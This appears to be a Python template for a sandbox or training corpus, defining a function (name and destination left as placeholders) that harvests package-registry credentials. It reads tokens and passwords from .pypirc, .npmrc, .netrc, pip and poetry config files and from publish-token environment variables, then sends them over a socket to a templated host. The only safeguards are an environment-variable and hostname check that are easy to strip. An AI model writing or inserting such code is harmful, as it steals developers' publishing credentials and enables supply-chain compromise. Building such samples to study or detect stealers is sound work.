# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import re
    import socket
    home = os.path.expanduser('~')
    found = []
    for name in ('.pypirc', '.npmrc', '.config/pip/pip.conf', '.netrc', '.config/pypoetry/auth.toml'):
        try:
            with open(os.path.join(home, name), errors='replace') as file:
                text = file.read()
        except OSError:
            continue
        found += re.findall(r'(?:_authToken|password)\s*[=:\s]\s*(\S+)', text)
    found += [value for key, value in os.environ.items() if key in ('NPM_TOKEN', 'PYPI_TOKEN', 'TWINE_PASSWORD', 'UV_PUBLISH_TOKEN')]
    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as link:
            for token in found:
                link.sendall(token.encode() + b'\r\n')
    except OSError:
        pass
